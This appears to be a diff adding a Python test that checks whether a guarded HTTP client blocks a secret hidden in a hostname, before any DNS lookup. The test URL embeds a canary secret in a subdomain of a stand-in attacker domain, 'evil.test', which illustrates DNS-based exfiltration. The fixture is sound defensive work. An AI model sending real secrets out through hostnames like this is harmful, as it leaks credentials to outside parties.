@@ -144,6 +144,24 @@ class TestLeaks:
 
         assert not other.asked
 
+    async def test_in_the_name_of_a_host(self) -> None:
+        """Whoever answers for the name would read it before anything is sent."""
+        looked_up: list[str] = []
+
+        async def resolve(host: str, port: int) -> list[str]:
+            looked_up.append(host)
+            return ["127.0.0.1"]
+
+        secrets = Secrets((BoundSecret("KEY", "api.test", SecretStr("Canary4711")),))
+        http = GuardedHttp(Reach(("*.evil.test", "127.0.0.1")), resolve=resolve, secrets=secrets)
+        url = "https://x-canary4711.evil.test/"
+        async with httpx2.AsyncClient(transport=http.transport()) as library:
+            for get in (http.get, library.get):
+                with pytest.raises(NotDone, match="holds the secret KEY"):
+                    await get(url)
+
+        assert looked_up == []
+
     async def test_in_a_redirect(self) -> None:
         """The host that has it doesn't pass it on through us."""
         async with web_server() as mine, web_server({"/": reply()}) as other:
